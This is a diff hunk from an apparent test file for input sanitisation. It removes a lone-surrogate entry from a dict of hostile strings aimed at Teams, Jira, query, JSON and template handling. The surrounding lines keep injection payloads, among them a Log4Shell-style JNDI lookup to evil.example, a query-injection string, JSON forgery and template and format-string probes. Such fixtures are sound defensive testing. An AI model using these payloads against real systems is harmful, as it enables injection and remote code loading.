@@ -21,7 +21,6 @@ HOSTILE: dict[str, str] = {
     "Teams": "<at>Everyone</at> &nbsp; <a href=\"https://evil.example\">x</a>", "Jira": "{code} {noformat} [~admin] [x|https://evil.example] !img.png! h1. x",
     "a query": "x^active=true^ORcorrelation_idISNOTEMPTY\" OR project = X --", "JSON": '","text":"forged","x":"', "emoji": ":rotating_light: :white_check_mark:",
     "long": "A" * 20_000, "wide": "\U0001f525" * 3000, "a template": "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n", "nothing": "", "blanks": " \t\n ",
-    "a surrogate": "\udcff lone",
 }  # fmt: skip
 
 
